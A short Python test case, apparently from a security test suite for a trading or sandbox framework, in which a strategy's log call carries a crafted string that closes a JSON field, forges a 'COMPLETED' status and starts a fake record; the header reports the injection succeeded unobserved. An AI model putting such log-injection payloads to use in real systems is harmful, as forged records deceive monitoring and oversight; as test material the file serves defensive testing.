# id: T07
# family: text
# goal: break out of a record
# finding: PY121 PY502
# outcome: COMPLETED
# observed_by: none
# control: text

from glovebox import Strategy


class Attack(Strategy):
    def on_bar(self, ctx, bar):
        ctx.log("\",\"code\":\"COMPLETED\"}\r{\"forged\":true}")
